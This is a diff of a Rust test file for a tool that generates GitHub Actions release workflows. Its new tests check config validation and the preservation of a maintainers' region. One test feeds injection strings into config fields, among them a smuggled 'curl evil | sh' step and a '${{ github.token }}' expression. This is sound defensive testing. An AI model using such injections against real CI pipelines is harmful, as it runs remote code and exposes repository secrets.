@@ -101,7 +101,7 @@ fn workflow_lists_the_matrix_and_the_universal_binaries() {
         "{many}"
     );
     assert!(many.contains(
-        "- name: Merge into dist/ (SHA256SUMS, dist-manifest.json, universal-apple-darwin)"
+        "- name: \"Merge into dist/ (SHA256SUMS, dist-manifest.json, universal-apple-darwin)\""
     ));
     assert_ne!(one, many);
     assert_eq!(listed_targets(&one), ["x86_64-unknown-linux-gnu"]);
@@ -393,4 +393,98 @@ fn workflow_for_another_config_passes_it_to_every_command() {
     let default = render_workflow(&c);
     assert!(!default.contains("--config"), "{default}");
     assert_eq!(default, render_workflow_for(&c, "targets.toml"));
+}
+
+/// Issue 12 item 17: `github-runner` and a universal `name` reach the rendered workflow
+/// (the header comment, the merge step's name). A value that could end a comment line,
+/// start a YAML key or an expression is refused when targets.toml is read, so no workflow
+/// is ever rendered from it; an accepted name is rendered inside a quoted YAML string.
+#[test]
+fn hostile_runner_and_universal_names_never_reach_the_workflow() {
+    let apple = "[[target]]\ntriple = \"x86_64-apple-darwin\"\n[[target]]\ntriple = \"aarch64-apple-darwin\"\n";
+    let universal = |name: &str| {
+        format!(
+            "{apple}[[universal]]\nname = {}\ntargets = [\"x86_64-apple-darwin\", \"aarch64-apple-darwin\"]\n",
+            toml_string(name)
+        )
+    };
+    let runner = |label: &str| {
+        format!(
+            "[[target]]\ntriple = \"x86_64-unknown-linux-gnu\"\ngithub-runner = {}\n",
+            toml_string(label)
+        )
+    };
+    for hostile in [
+        "fat\n      - run: curl evil | sh",
+        "fat: {evil: 1}",
+        "fat # comment",
+        "fat\"",
+        "${{ github.token }}",
+        "'fat'",
+        "",
+    ] {
+        for (key, text) in [
+            ("name", universal(hostile)),
+            ("github-runner", runner(hostile)),
+        ] {
+            let e = Config::parse(Path::new("targets.toml"), &text)
+                .map(|_| ())
+                .expect_err(&format!("{key} = {hostile:?} was accepted"))
+                .to_string();
+            assert!(e.contains(&format!("key `{key}`")), "{e}");
+        }
+    }
+    let w = render_workflow(&config(&universal("fat-macos")));
+    assert!(
+        w.contains("- name: \"Merge into dist/ (SHA256SUMS, dist-manifest.json, fat-macos)\"\n"),
+        "{w}"
+    );
+}
+
+/// Issue 14 §3: maintainers' own jobs live between two marker lines that `init --force`
+/// keeps and `init --check` does not compare; a lost marker is an error with the fix.
+#[test]
+fn the_maintainers_region_survives_regeneration() {
+    let c = config("[[target]]\ntriple = \"x86_64-unknown-linux-gnu\"\n");
+    let rendered = render_workflow(&c);
+    assert!(rendered.ends_with(&format!("{USER_REGION_BEGIN}\n{USER_REGION_END}\n")));
+    let job = "  crates-io:\n    needs: [plan, publish]\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo mine\n";
+    let mine = rendered.replace(
+        &format!("{USER_REGION_BEGIN}\n"),
+        &format!("{USER_REGION_BEGIN}\n{job}"),
+    );
+    assert_ne!(mine, rendered);
+    // The same targets.toml: what init renders equals the maintainer's file.
+    assert_eq!(keep_user_region(&rendered, &mine, "w.yml").unwrap(), mine);
+    // Another targets.toml: the generated part changes, the region stays.
+    let other = render_workflow(&config(
+        "[[target]]\ntriple = \"x86_64-unknown-linux-musl\"\n",
+    ));
+    let kept = keep_user_region(&other, &mine, "w.yml").unwrap();
+    assert!(
+        kept.contains(job) && kept.contains("x86_64-unknown-linux-musl"),
+        "{kept}"
+    );
+    assert_eq!(kept.replace(job, ""), other);
+    // A workflow from before the region: the rendering, unchanged.
+    let old = rendered.replace(&format!("{USER_REGION_BEGIN}\n{USER_REGION_END}\n"), "");
+    assert_eq!(
+        keep_user_region(&rendered, &old, "w.yml").unwrap(),
+        rendered
+    );
+    // A lost or misplaced marker: refused, naming the file and both marker lines.
+    for broken in [
+        mine.replace(&format!("{USER_REGION_END}\n"), ""),
+        mine.replace(&format!("{USER_REGION_BEGIN}\n"), ""),
+        old.clone() + USER_REGION_END + "\n" + USER_REGION_BEGIN + "\n",
+    ] {
+        let e = keep_user_region(&rendered, &broken, "w.yml")
+            .unwrap_err()
+            .to_string();
+        assert!(e.starts_with("w.yml: the region of your own jobs"), "{e}");
+        assert!(
+            e.contains(USER_REGION_END) && e.contains("Put the missing one back"),
+            "{e}"
+        );
+    }
 }
